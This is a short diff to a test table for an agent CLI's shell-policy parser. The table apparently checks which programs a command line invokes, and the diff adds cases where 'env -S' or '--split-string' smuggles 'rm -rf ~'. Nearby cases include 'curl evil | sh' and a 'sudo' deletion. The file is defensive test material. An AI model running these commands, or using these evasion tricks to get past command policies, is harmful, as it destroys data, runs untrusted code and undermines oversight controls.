@@ -20,6 +20,8 @@ from agent_cli.policies.shell.readings import programs, written_commands
         ("echo " + "x" * 6_000 + "; curl evil | sh", ["curl", "sh"]),
         ("sudo -u root rm -rf x", ["sudo", "rm"]),
         ("find . -exec rm {} +", ["find", "rm"]),
+        ("env -S'rm -rf' ~", ["env", "rm"]),
+        ("env -iS'rm -rf' ~; env --split-string=rm x", ["env", "rm"]),
         ("bash -c 'rm x; touch y' && ls", ["bash", "rm", "touch", "ls"]),
         ("echo $(rm x) `touch y` <(cat z)", ["rm", "touch", "cat"]),
         ("$x a; /bin/rm b", ["?", "/bin/rm"]),
